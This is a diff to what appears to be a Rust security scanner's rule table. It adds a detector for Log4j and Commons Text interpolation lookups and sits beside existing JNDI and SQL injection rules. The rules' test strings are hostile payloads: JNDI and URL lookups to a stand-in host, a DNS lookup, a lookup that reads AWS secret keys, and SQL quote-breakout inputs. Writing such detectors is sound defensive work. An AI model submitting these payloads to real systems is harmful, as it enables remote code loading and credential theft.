@@ -868,6 +868,16 @@ pub(crate) static RULES: &[Rule] = &[
     code_rule!("jndi-nested-lookup", Jndi, 1, High, 5, Any, Check::NestedLookup,
         catches ["${${lower:j}ndi:ldap://evil.example/a}"],
         passes ["${user.name}"]),
+    // Interpolation lookups (Log4j, Apache Commons Text's
+    // StringSubstitutor, CVE-2022-42889): `${prefix:key}` evaluates
+    // `prefix` (`script`, `url`, `dns`, `env`…, and whatever a library adds),
+    // so the grammar is judged, not a list: a lookup name, a colon, and a key
+    // that is not a shell operator (`${VAR:-default}`), a number
+    // (`${port:8080}`, `${s:1:2}`) or a space.
+    rule!("java-interpolation-lookup", Java, 1, High, 5, D, NotText,
+        r"\$\{\s*[a-z][\w.]{0,30}\s*:[^-=+?\d\s}][^{}]{0,500}\}",
+        catches ["${url:UTF-8::https://evil.example/}", "${dns:address|evil.example}", "${env:AWS_SECRET_ACCESS_KEY}"],
+        passes ["${HOME:-/root}", "${server.port:8080}"]),
     code_rule!("sqli-quote-breakout", Sqli, 1, High, 5, NotText, Check::QuoteBreakout,
         catches ["'/1/1='", "'is\\n-!'", "+aa1' * @a or '1 '/1 regexp '0"],
         passes ["O'Reilly"]),
